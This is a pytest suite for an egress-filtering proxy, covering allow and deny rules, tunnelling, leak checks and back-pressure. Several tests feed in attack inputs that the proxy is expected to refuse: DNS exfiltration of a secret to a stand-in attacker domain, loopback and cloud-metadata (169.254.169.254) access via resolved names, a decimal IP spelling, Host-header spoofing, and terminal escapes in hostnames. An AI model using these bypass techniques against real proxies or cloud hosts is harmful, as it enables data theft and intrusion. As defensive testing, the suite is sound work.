"""Loopback tests: a real EgressProxy on 127.0.0.1 with real clients (curl, python sockets) and real origins on
127.0.0.1. Loopback is a forbidden destination unless the literal address is allowed, so tests that need an origin
allow `127.0.0.1:<port>`; the attack tests show what happens without that.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import threading
import time

import pytest
from proxyhelpers import RunningProxy, serve, sha

import rcc.net.relay as relay_mod
from rcc.net import socks5
from rcc.net.env import proxy_env


def curl(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    if shutil.which("curl") is None:
        pytest.skip("curl is not installed")
    e = {"PATH": os.environ["PATH"], **(env or {})}
    return subprocess.run(
        ["curl", "-sS", "--max-time", "10", *args], capture_output=True, text=True, env=e, check=False
    )


def connect_tunnel(rp: RunningProxy, target: str) -> tuple[socket.socket, bytes]:
    s = socket.create_connection(("127.0.0.1", rp.port), timeout=10)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):  # byte by byte: bytes after the reply belong to the tunnel
        d = s.recv(1)
        if not d:
            break
        head += d
    return s, head


def socks_connect(rp: RunningProxy, host: str, port: int) -> tuple[socket.socket, bytes]:
    s = socket.create_connection(("127.0.0.1", rp.port), timeout=10)
    s.sendall(b"\x05\x01\x00")
    assert s.recv(2) == b"\x05\x00"
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host.encode() + port.to_bytes(2, "big"))
    return s, recv_exact(s, 10)


def recv_exact(s: socket.socket, n: int) -> bytes:
    out = b""
    while len(out) < n:
        d = s.recv(n - len(out))
        if not d:
            break
        out += d
    return out


def recv_all(s: socket.socket) -> bytes:
    out = bytearray()
    while d := s.recv(1 << 20):
        out += d
    return bytes(out)


def wait_for(cond, timeout: float = 5.0) -> bool:  # type: ignore[no-untyped-def]
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if cond():
            return True
        time.sleep(0.02)
    return bool(cond())


# ------------------------------------------------------------------------------------------------ real clients


def test_curl_plain_http_through_proxy(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"127.0.0.1:{http_origin}"])
    r = curl("-x", rp.url, f"http://127.0.0.1:{http_origin}/hello")
    assert r.returncode == 0, r.stderr
    assert "GET /hello HTTP/1.1" in r.stdout and "Connection: close" in r.stdout
    assert "Proxy-Connection" not in r.stdout


def test_curl_connect_tunnel(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"127.0.0.1:{http_origin}"])
    r = curl("-p", "-x", rp.url, f"http://127.0.0.1:{http_origin}/tunnel")
    assert r.returncode == 0, r.stderr
    assert "GET /tunnel HTTP/1.1" in r.stdout


def test_curl_socks5h(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy(["api.test:" + str(http_origin), f"127.0.0.1:{http_origin}"], resolve={"api.test": "127.0.0.1"})
    r = curl("-x", f"socks5h://127.0.0.1:{rp.port}", f"http://api.test:{http_origin}/s")
    assert r.returncode == 0, r.stderr
    assert "GET /s HTTP/1.1" in r.stdout


def test_curl_uses_proxy_env(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    """proxy_env() alone (no -x) routes curl through the proxy: name resolved by the proxy's override."""
    rp = start_proxy([f"api.test:{http_origin}", f"127.0.0.1:{http_origin}"], resolve={"api.test": "127.0.0.1"})
    r = curl(f"http://api.test:{http_origin}/env", env=proxy_env(rp.port))
    assert r.returncode == 0, r.stderr
    assert rp.records()[-1]["host"] == "api.test"


def test_python_urllib_uses_proxy_env(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"api.test:{http_origin}", f"127.0.0.1:{http_origin}"], resolve={"api.test": "127.0.0.1"})
    code = (
        f"import urllib.request;print(urllib.request.urlopen('http://api.test:{http_origin}/py', timeout=5)"
        ".read().decode())"
    )
    r = subprocess.run(
        [shutil.which("python3") or "python3", "-c", code],
        capture_output=True,
        text=True,
        env={"PATH": os.environ["PATH"], **proxy_env(rp.port)},
        check=False,
    )
    assert r.returncode == 0, r.stderr
    assert "GET /py HTTP/1.1" in r.stdout


def _node() -> tuple[str, tuple[int, int], str]:
    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    ver = subprocess.run([node, "-p", "process.versions.node"], capture_output=True, text=True, check=True).stdout
    major, minor = (int(x) for x in ver.strip().split(".")[:2])
    return node, (major, minor), ver.strip()


def _node_honours_env_proxy(v: tuple[int, int]) -> bool | None:
    """fetch() honours the proxy variables with NODE_USE_ENV_PROXY=1 from Node 24 and 22.21; 23 unknown."""
    if v[0] == 23:
        return None
    return v[0] >= 24 or (v[0] == 22 and v[1] >= 21)


def _node_fetch(node: str, rp: RunningProxy, port: int) -> subprocess.CompletedProcess[str]:
    code = (
        f"fetch('http://api.test:{port}/node').then(r=>r.text()).then(t=>console.log(t))"
        ".catch(e=>{console.error(String(e.cause||e));process.exit(3)})"
    )
    return subprocess.run(
        [node, "-e", code],
        capture_output=True,
        text=True,
        env={"PATH": os.environ["PATH"], **proxy_env(rp.port)},
        check=False,
        timeout=30,
    )


def test_node_fetch_with_proxy_env(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    node, v, ver = _node()
    if _node_honours_env_proxy(v) is not True:
        pytest.skip(f"node {ver}: fetch() ignores HTTP(S)_PROXY (needs >= 22.21/24.5 with NODE_USE_ENV_PROXY=1)")
    rp = start_proxy([f"api.test:{http_origin}", f"127.0.0.1:{http_origin}"], resolve={"api.test": "127.0.0.1"})
    r = _node_fetch(node, rp, http_origin)
    assert r.returncode == 0, r.stderr
    assert "GET /node" in r.stdout


def test_old_node_fetch_ignores_proxy_env_and_gets_nothing(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    """Node 20's fetch does not use the proxy; it resolves names itself. In the sandbox that means no network
    (fails closed); here it means `api.test` does not resolve. Pins the LIMITATION in docs/network.md."""
    node, v, ver = _node()
    if _node_honours_env_proxy(v) is not False:
        pytest.skip(f"node {ver} may honour the proxy variables")
    rp = start_proxy([f"api.test:{http_origin}", f"127.0.0.1:{http_origin}"], resolve={"api.test": "127.0.0.1"})
    r = _node_fetch(node, rp, http_origin)
    assert r.returncode != 0
    assert rp.records(timeout=0.5) == []


# ------------------------------------------------------------------------------------------------ denials


def test_connect_to_unlisted_host_is_refused_with_403_header(start_proxy) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy(["allowed.example"])
    s, head = connect_tunnel(rp, "example.org:443")
    s.close()
    assert head.startswith(b"HTTP/1.1 403 ") and b"X-Rcc-Denied: no allow rule" in head
    assert rp.notes == [
        "rcc: denied example.org:443 (no allow rule) — allow with --allow example.org or network.allow in config"
    ]
    rec = rp.records()[-1]
    assert (rec["decision"], rec["host"], rec["port"], rec["proto"]) == ("deny", "example.org", 443, "connect")


def test_socks5_denial_is_reply_0x02(start_proxy) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy(["allowed.example"])
    s, rep = socks_connect(rp, "example.org", 443)
    s.close()
    assert rep[:2] == bytes((5, socks5.NOT_ALLOWED))


def test_denied_name_is_never_resolved(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    """Attack: exfiltrate through DNS by asking the proxy for <secret>.attacker.example."""
    rp = start_proxy(["localhost:" + str(http_origin), f"127.0.0.1:{http_origin}"], deny=["*.attacker.example"])
    for proto in ("connect", "socks"):
        if proto == "connect":
            s, head = connect_tunnel(rp, "c2VjcmV0.attacker.example:443")
            assert b" 403 " in head
        else:
            s, rep = socks_connect(rp, "c2VjcmV0.attacker.example", 443)
            assert rep[1] == socks5.NOT_ALLOWED
        s.close()
    assert rp.resolved == []
    # control: an allowed name is resolved (once) by the proxy
    s, head = connect_tunnel(rp, f"localhost:{http_origin}")
    s.close()
    assert b" 200 " in head and rp.resolved == ["localhost"]


def test_name_pointing_at_loopback_is_refused(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    """Attack: an allowed name that resolves to 127.0.0.1 reaches services on the host's loopback."""
    rp = start_proxy([f"api.test:{http_origin}"], resolve={"api.test": "127.0.0.1"})
    s, head = connect_tunnel(rp, f"api.test:{http_origin}")
    s.close()
    assert b" 403 " in head and b"loopback" in head
    assert "--allow 127.0.0.1" in rp.notes[-1]


def test_name_pointing_at_loopback_allowed_when_address_allowed(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"api.test:{http_origin}", f"127.0.0.1:{http_origin}"], resolve={"api.test": "127.0.0.1"})
    s, head = connect_tunnel(rp, f"api.test:{http_origin}")
    s.close()
    assert b" 200 " in head


def test_name_pointing_at_metadata_service_is_refused(start_proxy) -> None:  # type: ignore[no-untyped-def]
    """Attack: steal cloud credentials via an allowed name pointed at 169.254.169.254."""
    rp = start_proxy(["api.test"], resolve={"api.test": "169.254.169.254"})
    s, head = connect_tunnel(rp, "api.test:80")
    s.close()
    assert b" 403 " in head and b"cloud metadata" in head


def test_decimal_spelling_of_loopback_is_refused(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    """Attack: CONNECT 2130706433:<port> hoping the proxy sees a 'name' and the resolver sees 127.0.0.1."""
    rp = start_proxy(["*.example.com"])
    s, head = connect_tunnel(rp, f"2130706433:{http_origin}")
    s.close()
    assert b" 403 " in head
    assert rp.records()[-1]["host"] == "2130706433"


def test_decimal_spelling_of_allowed_address_works(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"127.0.0.1:{http_origin}"])
    s, head = connect_tunnel(rp, f"2130706433:{http_origin}")
    s.close()
    assert b" 200 " in head
    assert rp.records()[-1]["host"] == "127.0.0.1"


def test_host_header_mismatch_is_refused(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    """Attack: request an allowed host but name another virtual host in Host:."""
    rp = start_proxy([f"127.0.0.1:{http_origin}"])
    r = curl("-i", "-x", rp.url, "-H", "Host: internal.example", f"http://127.0.0.1:{http_origin}/")
    assert "403 Forbidden" in r.stdout and "X-Rcc-Denied: Host header does not match" in r.stdout
    assert rp.records()[-1]["decision"] == "deny"


def test_host_header_matching_target_is_forwarded(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"127.0.0.1:{http_origin}"])
    r = curl("-i", "-x", rp.url, "-H", f"Host: 127.0.0.1:{http_origin}", f"http://127.0.0.1:{http_origin}/")
    assert "200 OK" in r.stdout


def test_deny_wins_on_the_wire(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"127.0.0.1:{http_origin}"], deny=["127.0.0.1"])
    s, head = connect_tunnel(rp, f"127.0.0.1:{http_origin}")
    s.close()
    assert b" 403 " in head and b"denied by rule 127.0.0.1" in head
    assert "remove it from network.deny" in rp.notes[-1]


def test_denial_notices_are_rate_limited(start_proxy) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([])
    for _ in range(20):
        s, _h = connect_tunnel(rp, "same.example:443")
        s.close()
    assert len(rp.notes) == 1
    for i in range(30):
        s, _h = connect_tunnel(rp, f"h{i}.example:443")
        s.close()
    assert len(rp.notes) <= 10
    assert len([r for r in rp.records(50) if r["decision"] == "deny"]) == 50  # the audit log has every one


def test_unresolvable_name_is_an_error_not_a_bypass(start_proxy) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy(["nonexistent.invalid"])
    s, head = connect_tunnel(rp, "nonexistent.invalid:443")
    s.close()
    assert b" 502 " in head
    assert rp.records()[-1]["decision"] == "error"


def test_malformed_request_gets_400(start_proxy) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([])
    s = socket.create_connection(("127.0.0.1", rp.port), timeout=5)
    s.sendall(b"GET /not-a-proxy-request HTTP/1.1\r\nHost: x\r\n\r\n")
    assert recv_all(s).startswith(b"HTTP/1.1 400 ")
    s.close()


# ------------------------------------------------------------------------------------------------ robustness


@pytest.mark.parametrize("relay", ["splice", "copy"])
def test_large_transfer_both_ways_is_intact(start_proxy, echo_server, relay: str) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"127.0.0.1:{echo_server}"], relay=relay)
    s, head = connect_tunnel(rp, f"127.0.0.1:{echo_server}")
    assert b" 200 " in head
    data = os.urandom(1 << 20) * 32  # 32 MiB

    def send() -> None:
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)

    t = threading.Thread(target=send)
    t.start()
    got = recv_all(s)
    t.join()
    s.close()
    assert len(got) == len(data) and sha(got) == sha(data)
    assert wait_for(lambda: rp.records() and rp.records()[-1]["bytes_down"] == len(data))
    assert rp.records()[-1]["bytes_up"] == len(data)


RELAYS = pytest.mark.parametrize("relay", ["copy", "splice"])


@RELAYS
def test_half_close_client_side(start_proxy, echo_server, relay: str) -> None:  # type: ignore[no-untyped-def]
    """Client shuts down writing; the server still answers; the answer arrives, then EOF."""
    rp = start_proxy([f"127.0.0.1:{echo_server}"], relay=relay)
    s, _ = socks_connect(rp, "127.0.0.1", echo_server)
    s.sendall(b"ping")
    s.shutdown(socket.SHUT_WR)
    assert recv_all(s) == b"ping"
    s.close()


@RELAYS
def test_half_close_server_side(start_proxy, relay: str) -> None:  # type: ignore[no-untyped-def]
    """Server sends and shuts down writing, then keeps reading: the client can still send to it."""
    got: list[bytes] = []

    def handler(c: socket.socket) -> None:
        with c:
            c.sendall(b"hello")
            c.shutdown(socket.SHUT_WR)
            got.append(recv_all(c))

    lsock, port = serve(handler)
    rp = start_proxy([f"127.0.0.1:{port}"], relay=relay)
    s, _ = connect_tunnel(rp, f"127.0.0.1:{port}")
    assert recv_all(s) == b"hello"
    s.sendall(b"after-eof")
    s.shutdown(socket.SHUT_WR)
    assert wait_for(lambda: got == [b"after-eof"])
    s.close()
    lsock.close()


def test_handshake_timeout_closes_silent_clients(start_proxy) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([], handshake_timeout=0.3)
    s = socket.create_connection(("127.0.0.1", rp.port), timeout=5)
    t0 = time.monotonic()
    assert s.recv(10) == b""
    assert time.monotonic() - t0 < 3
    s.close()


@RELAYS
def test_idle_tunnel_is_closed(start_proxy, echo_server, relay: str) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"127.0.0.1:{echo_server}"], idle_timeout=0.4, relay=relay)
    s, _ = connect_tunnel(rp, f"127.0.0.1:{echo_server}")
    s.settimeout(5)
    t0 = time.monotonic()
    assert s.recv(10) == b""
    assert 0.3 < time.monotonic() - t0 < 4
    s.close()
    assert wait_for(lambda: rp.proxy.active_tunnels() == 0)


def _fd_count() -> int:
    return len(os.listdir("/proc/self/fd"))


def test_500_concurrent_tunnels_and_no_leaks(start_proxy, echo_server) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"127.0.0.1:{echo_server}"])
    baseline = _fd_count()
    n = 500
    socks: list[socket.socket] = []
    for i in range(n):
        if i % 2:
            s, head = connect_tunnel(rp, f"127.0.0.1:{echo_server}")
            assert b" 200 " in head, (i, head)
        else:
            s, rep = socks_connect(rp, "127.0.0.1", echo_server)
            assert rep[1] == 0, (i, rep)
        socks.append(s)
    assert wait_for(lambda: rp.proxy.active_tunnels() == n)
    for i, s in enumerate(socks):
        s.sendall(b"x%d" % i)
    for i, s in enumerate(socks):
        assert recv_exact(s, len(b"x%d" % i)) == b"x%d" % i
    for s in socks:
        s.close()
    assert wait_for(lambda: rp.proxy.active_tunnels() == 0 and rp.proxy.active_connections() == 0, 10)
    assert wait_for(lambda: _fd_count() <= baseline + 2, 10), (_fd_count(), baseline)
    assert len(rp.records(n)) == n and all(r["decision"] == "allow" for r in rp.records())


def test_close_writes_records_for_open_tunnels_and_refuses_new(start_proxy, echo_server) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"127.0.0.1:{echo_server}"])
    s, _ = connect_tunnel(rp, f"127.0.0.1:{echo_server}")
    s.sendall(b"abc")
    assert recv_exact(s, 3) == b"abc"
    rp.proxy.close()
    assert rp.records()[-1]["bytes_up"] == 3
    assert s.recv(10) == b""
    s.close()
    # fail closed: nothing listens any more
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", rp.port), timeout=2)


def test_many_sequential_connections_leak_nothing(start_proxy, http_origin) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([f"127.0.0.1:{http_origin}"])
    s, _ = connect_tunnel(rp, f"127.0.0.1:{http_origin}")
    s.close()
    time.sleep(0.1)
    baseline = _fd_count()
    threads_before = threading.active_count()
    for _ in range(300):
        s, _head = connect_tunnel(rp, f"127.0.0.1:{http_origin}")
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        assert recv_all(s).startswith(b"HTTP/1.1 200")
        s.close()
    assert wait_for(lambda: rp.proxy.active_connections() == 0)
    assert wait_for(lambda: _fd_count() <= baseline + 2), (_fd_count(), baseline)
    assert threading.active_count() <= threads_before + 1


def test_proxy_failure_closes_the_door(start_proxy, echo_server) -> None:  # type: ignore[no-untyped-def]
    """If the proxy's accept loop dies, the listener is closed (connection refused), never left open or bypassed."""
    rp = start_proxy([f"127.0.0.1:{echo_server}"])
    s, head = connect_tunnel(rp, f"127.0.0.1:{echo_server}")
    assert b" 200 " in head
    s.close()
    rp.proxy._listeners[0].shutdown(socket.SHUT_RDWR)  # break the listener under the running accept loop
    assert wait_for(lambda: rp.proxy.failed is not None)
    assert any("egress proxy stopped" in n for n in rp.notes)
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", rp.port), timeout=2)


def test_ipv6_literal_connect(start_proxy) -> None:  # type: ignore[no-untyped-def]
    if not socket.has_ipv6:
        pytest.skip("no IPv6 in this Python")
    lsock = socket.socket(socket.AF_INET6)
    try:
        lsock.bind(("::1", 0))
    except OSError as e:
        lsock.close()
        pytest.skip(f"no ::1 here: {e}")
    lsock.listen(8)
    port = lsock.getsockname()[1]

    def serve() -> None:
        c, _ = lsock.accept()
        with c:
            c.sendall(c.recv(100))

    threading.Thread(target=serve, daemon=True).start()
    rp = start_proxy([f"[::1]:{port}"])
    s, head = connect_tunnel(rp, f"[::1]:{port}")
    assert b" 200 " in head
    s.sendall(b"v6")
    assert recv_exact(s, 2) == b"v6"
    s.close()
    lsock.close()
    assert rp.records()[-1]["addr"] == "::1"
    # and the same address is refused without the literal rule (loopback guard), e.g. via an IPv4-mapped spelling
    rp2 = start_proxy(["*.example.com"])
    s, head = connect_tunnel(rp2, f"[::1]:{port}")
    s.close()
    assert b" 403 " in head


def test_terminal_escape_in_host_name_is_neutralised(start_proxy, tmp_path, capsys) -> None:  # type: ignore[no-untyped-def]
    """Attack: a SOCKS5 'name' carrying an ANSI escape sequence, shown on the user's terminal by the denial
    notice and by `rcc log`."""
    from rcc.net import logcmd

    rp = start_proxy([])
    s, rep = socks_connect(rp, "evil\x1b]0;pwned\x07\x1b[2J.example", 443)
    s.close()
    assert rep[1] == socks5.NOT_ALLOWED
    assert rp.notes and all("\x1b" not in n and "\x07" not in n for n in rp.notes)
    assert "evil\\x1b]0;pwned\\x07" in rp.notes[0]
    rp.records()
    logcmd.command([], str(rp.audit))
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "evil\\x1b" in out


def test_printable_host_names_are_shown_unchanged(start_proxy) -> None:  # type: ignore[no-untyped-def]
    rp = start_proxy([])
    s, _rep = socks_connect(rp, "plain-name.example", 443)
    s.close()
    assert "denied plain-name.example:443 (no allow rule)" in rp.notes[0]


@RELAYS
def test_slow_reader_is_back_pressure_not_memory(start_proxy, relay: str) -> None:  # type: ignore[no-untyped-def]
    """A server that never reads: the client's sends stop after a bounded amount (socket buffers + one pipe or
    one parked read); the proxy does not buffer without limit."""
    stop = threading.Event()

    def never_read(c: socket.socket) -> None:
        stop.wait(30)
        c.close()

    lsock, port = serve(never_read)
    rp = start_proxy([f"127.0.0.1:{port}"], relay=relay)
    s, head = connect_tunnel(rp, f"127.0.0.1:{port}")
    assert b" 200 " in head
    s.setblocking(False)
    chunk = b"\0" * (1 << 20)
    sent = 0
    idle_rounds = 0
    while idle_rounds < 50 and sent < (512 << 20):  # 1 s without progress: not a moment of machine load
        try:
            sent += s.send(chunk)
            idle_rounds = 0
        except BlockingIOError:
            idle_rounds += 1
            time.sleep(0.02)
    buf = rp.proxy._copybuf
    if relay == "copy":  # judged while the tunnel is stalled (once the server closes, the tunnel ends at once)
        assert buf is not None
        assert wait_for(lambda: buf.parked > 0, timeout=10)  # dst full: one read parked ...
        assert buf.parked <= relay_mod.COPY_BUF  # ... and no more reads after it
    stop.set()
    s.close()
    lsock.close()
    assert sent < (96 << 20), f"{sent >> 20} MiB accepted by a tunnel whose server never reads"
    if buf is not None:
        assert wait_for(lambda: rp.proxy.active_tunnels() == 0 and buf.parked == 0)  # released with the tunnel


def test_copy_relay_parks_for_many_slow_readers_within_budget(start_proxy, echo_server, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """Past PENDING_BUDGET parked bytes, reads shrink to COPY_SMALL: memory for slow readers stays bounded by
    budget + one large read, however many there are. Control: the data still arrives intact."""
    monkeypatch.setattr(relay_mod, "PENDING_BUDGET", 1 << 20)
    release = threading.Event()

    def slow(c: socket.socket) -> None:
        with c:
            release.wait(30)
            while c.recv(1 << 20):
                pass

    lsock, port = serve(slow)
    rp = start_proxy([f"127.0.0.1:{port}", f"127.0.0.1:{echo_server}"])
    socks = []
    chunk = os.urandom(1 << 20)
    for _ in range(8):
        s, head = connect_tunnel(rp, f"127.0.0.1:{port}")
        assert b" 200 " in head
        s.setblocking(False)
        socks.append(s)
    deadline = time.monotonic() + 30
    stalled_since: float | None = None
    while time.monotonic() < deadline:  # fill every tunnel until nothing more is taken for 1 s
        progress = False
        for s in socks:
            try:
                s.send(chunk)
                progress = True
            except BlockingIOError:
                pass
        if progress or any(_can_send(s) for s in socks):
            stalled_since = None
            continue
        stalled_since = stalled_since or time.monotonic()
        if time.monotonic() - stalled_since > 1.0:
            break
        time.sleep(0.05)
    buf = rp.proxy._copybuf
    assert buf is not None
    assert wait_for(lambda: buf.parked > 0, timeout=10)
    assert buf.parked <= (1 << 20) + relay_mod.COPY_BUF + 8 * relay_mod.COPY_SMALL
    release.set()
    for s in socks:
        s.close()
    # control: an echo through the same proxy is intact while (and after) the others drain
    e, _ = connect_tunnel(rp, f"127.0.0.1:{echo_server}")
    data = os.urandom(3 << 20)
    threading.Thread(target=lambda: (e.sendall(data), e.shutdown(socket.SHUT_WR)), daemon=True).start()
    assert recv_all(e) == data
    e.close()
    lsock.close()
    assert wait_for(lambda: rp.proxy.active_tunnels() == 0 and buf.parked == 0, timeout=15)


def _can_send(s: socket.socket) -> bool:
    import select

    return bool(select.select([], [s], [], 0)[1])


def test_close_does_not_wait_for_a_hanging_lookup(tmp_path) -> None:  # type: ignore[no-untyped-def]
    import asyncio

    from rcc.net.proxy import EgressProxy
    from rcc.net.rules import compile_rules

    async def hanging(name: str, port: int) -> list[str]:
        await asyncio.get_running_loop().run_in_executor(None, time.sleep, 20)  # a resolver thread stuck in DNS
        return []

    lsock = socket.socket()
    lsock.bind(("127.0.0.1", 0))
    lsock.listen(8)
    proxy = EgressProxy(
        compile_rules(["slow.example"], []), str(tmp_path / "a.jsonl"), "s", lambda _m: None, resolver=hanging
    )
    proxy.start([lsock])
    s = socket.create_connection(lsock.getsockname(), timeout=5)
    s.sendall(b"CONNECT slow.example:443 HTTP/1.1\r\n\r\n")
    time.sleep(0.2)
    t0 = time.monotonic()
    proxy.close()
    assert time.monotonic() - t0 < 3
    assert s.recv(100) == b""
    s.close()
